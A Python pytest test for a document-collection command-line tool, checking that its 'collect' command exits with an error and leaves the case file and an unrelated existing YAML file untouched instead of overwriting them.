def test_never_overwrites_a_file_it_did_not_write(forms, tmp_path) -> None:
    (tmp_path / "ames.docx").write_bytes(
        fill(forms["report_proforma-teacher-ames-maya.docx"], AMES, reason=AMES_REASON)
    )
    case_path = _case_without_returns(tmp_path, include=None)
    before = case_path.read_bytes()
    status, _, err = run_cli(
        "collect", tmp_path / "ames.docx", "--case", case_path, "-o", case_path
    )
    assert status == 2
    assert err.strip().endswith(
        "case.yaml: is the case file: write the collected forms to a file of their own"
    )
    assert case_path.read_bytes() == before
    other = tmp_path / "notes.yaml"
    other.write_text("notes: keep me\n", encoding="utf-8")
    status, _, err = run_cli("collect", tmp_path / "ames.docx", "--case", case_path, "-o", other)
    assert status == 2
    assert "notes.yaml: exists and was not written by cpcdocs collect" in err
    assert other.read_text(encoding="utf-8") == "notes: keep me\n"
